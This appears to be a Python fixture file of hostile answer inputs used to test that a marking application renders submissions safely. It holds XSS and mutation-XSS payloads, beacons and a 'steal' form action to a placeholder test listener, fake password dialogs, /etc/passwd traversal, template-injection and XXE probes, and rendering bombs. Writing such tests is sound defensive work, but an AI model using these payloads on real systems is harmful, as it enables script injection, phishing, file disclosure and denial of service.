"""Answers that try to run, load, lead, hide, forge or exhaust something.

``LURE`` stands for an address at which a test listens.
"""

from __future__ import annotations

_RUN = "window.hit=1;fetch('LURE/js')"

SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script_elsewhere": "<script src='LURE/x.js'></script>",
    "script_in_svg": f"<svg><script>{_RUN}</script></svg>",
    "svg_onload": f'<svg onload="{_RUN}"><circle r=9></svg>',
    "svg_animate": f"<svg><animate onbegin={_RUN!r} attributeName=x dur=1s></svg>",
    "svg_image": "<svg><image href='LURE/svg.png' width=9 height=9></svg>",
    "svg_foreign": f"<svg><foreignObject><body onload={_RUN!r}></foreignObject></svg>",
    "image_onerror": f'<img src=x onerror="{_RUN}">',
    "details_toggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "focus": f'<input autofocus onfocus="{_RUN}">',
    "mutation_by_math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN!r}>",
    "mutation_by_noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "mutation_by_select": f"<select><template><img src=x onerror={_RUN!r}></template></select>",
    "comment_end": f"<!--><img src=x onerror={_RUN!r}>-->",
    "attribute_end": f'![x](y "\' onerror={_RUN}")',
    "fence_end": f"```html\n</code></pre><script>{_RUN}</script>\n```",
}
LOADS = {
    "image": "<img src='LURE/img.png'>",
    "markdown_image": "![a](LURE/md.png)",
    "background": "<table background='LURE/bg.png'><tr><td>x</td></tr></table>",
    "style_block": "<style>@import 'LURE/s.css'; body{display:none}</style>",
    "style_attribute": "<p style=\"background:url('LURE/p.png')\">x</p>",
    "stylesheet": "<link rel=stylesheet href='LURE/l.css'>",
    "prefetch": "<link rel=prefetch href='LURE/pre'><link rel=dns-prefetch href='LURE'>",
    "frame": "<iframe src='LURE/frame'></iframe>",
    "frame_of_text": "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "object": "<object data='LURE/o'></object><embed src='LURE/e'>",
    "video": "<video autoplay src='LURE/v' poster='LURE/p'></video><audio src='LURE/a'></audio>",
    "base": "<base href='LURE/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=LURE/meta'>",
}
LINKS = {
    "script_link": f'[click](javascript:{_RUN}) <a href="javascript:{_RUN}">a</a>',
    "data_link": f"[click](data:text/html,<script>{_RUN}</script>)",
    "link_that_acts": "<a href='/undo'>undo</a> <a ping='LURE/ping' href='LURE/a'>b</a>",
    "form": "<form action='/save' method=post><input name=item value=handin><button>x</form>",
    "form_of_ours": "<button form=marking formaction='LURE/steal'>Save</button>",
}
DISGUISES = {
    "overlay": "<div style='position:fixed;inset:0;z-index:99;background:#fff'>Saved</div>",
    "our_classes": "<p class='button' id='following'>x</p><input id=points name=seen value=1>",
    "our_ids": "<form id=marking name=main><input name=values></form><img name=sheets>",
    "our_dialog": "<dialog open id=keys>Enter your password</dialog>",
    "our_heading": "<h1>Full marks for everybody</h1>\n\n# Another\n\n</main></body>",
    "bidi": "\u202egnp.exe\u2066 \u200f 2 points \u2069 \u061c",
    "marks_upon_marks": "Z" + "\u0300\u0301\u0302" * 300,
    "private_numbers": "\ue0000\ue001 \ue0007\ue001 $x$",
    "controls": "a\x00b\x1b[31mred\x07\x08\r\n\u2028end",
    "path": "../../../../etc/passwd <file:///etc/passwd> ..\\..\\con %2e%2e%2f",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7 %>",
}
_PAIRS = zip("abcdefghijklmnopqrstuvwxy", "bcdefghijklmnopqrstuvwxyz", strict=True)
_DOUBLING = "".join(f"\\newcommand{{\\{a}}}{{\\{b}\\{b}}}" for a, b in _PAIRS)
FORMULAS = {
    "formula_markup": f"$\\text{{<img src=x onerror={_RUN!r}>}}$",
    "formula_link": "$\\href{javascript:window.hit=1}{x} \\class{button}{y} \\style{top:0}{z}$",
    "formula_macros": f"${_DOUBLING}\\a$",
    "formula_endless": "$\\newcommand{\\a}{\\a\\a}\\a$",
    "formula_deep": "$" + "{" * 900 + "}" * 900 + "$",
    "formula_roots": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$",
    "formula_towers": "$" + "x^{" * 400 + "}" * 400 + "$",
    "formula_wide": "$\\hspace{99999em}\\rule{99999em}{99999em}$ $\\kern{9999em}x$",
    "formula_many": "$x$ " * 4000,
    "formula_open": "$" * 9_999 + " $$ \\[ \\( \\begin{align}" * 500,
}
BOMBS = {
    "quotes": "> " * 9000,
    "stars": "*a" * 9000,
    "brackets": "[" * 15_000,
    "lists": "\n".join(" " * n + "- x" for n in range(140)),
    "nested": "<div>" * 4000,
    "long_word": "x" * 20_000,
    "table": "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + ("|b" * 2000 + "|\n") * 2,
}
ALL = {**SCRIPTS, **LOADS, **LINKS, **DISGUISES, **FORMULAS, **BOMBS}

_NAMES = "xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'"
_S = f"<svg {_NAMES} width='9' height='9'"
_NINE = "<use href='#l{}'/>" * 9
_USES = "".join(f"<g id='l{n + 1}'>{_NINE.replace('{}', str(n))}</g>" for n in range(12))
DRAWINGS = {
    "script": f"{_S}><script>{_RUN}</script></svg>",
    "script_elsewhere": f"{_S}><script href='LURE/x.js'/><script x:href='LURE/y.js'/></svg>",
    "onload": f'{_S} onload="{_RUN}"><rect onclick="{_RUN}"/></svg>',
    "foreign": f"{_S}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    "src='LURE/f'/></foreignObject></svg>",
    "image": f"{_S}><image href='LURE/i.png' width='9' height='9'/></svg>",
    "use_elsewhere": f"{_S}><use href='LURE/u.svg#a'/></svg>",
    "style": f"{_S}><style>@import 'LURE/s.css';*{{fill:url(LURE/f)}}</style><rect/></svg>",
    "style_attribute": f"{_S}><rect style='fill:url(LURE/f#a);mask:url(LURE/m)'/></svg>",
    "stylesheet": f"<?xml-stylesheet href='LURE/c.css'?>{_S}></svg>",
    "link": f"{_S}><a href='javascript:window.hit=1'><rect width='9' height='9'/></a></svg>",
    "animation": f"{_S}><rect><animate onbegin='{_RUN.replace(chr(39), chr(34))}' "
    "attributeName='x' dur='1s'/></rect></svg>",
    "set_link": f"{_S}><a><set attributeName='href' to='javascript:window.hit=1'/></a></svg>",
    "entity": f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'LURE/e'>]>{_S}><text>&x;</text></svg>",
    "outer": f"<!DOCTYPE svg SYSTEM 'LURE/d.dtd'>{_S}></svg>",
    "refresh": f"{_S}><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' "
    "content='0;url=LURE/r'/></svg>",
    "doubling": f"{_S}><rect id='l0'/>{_USES}<use href='#l12'/></svg>",
    "filter": f"{_S}><filter id='f'><feImage href='LURE/g'/></filter>"
    "<rect filter='url(#f)'/></svg>",
}
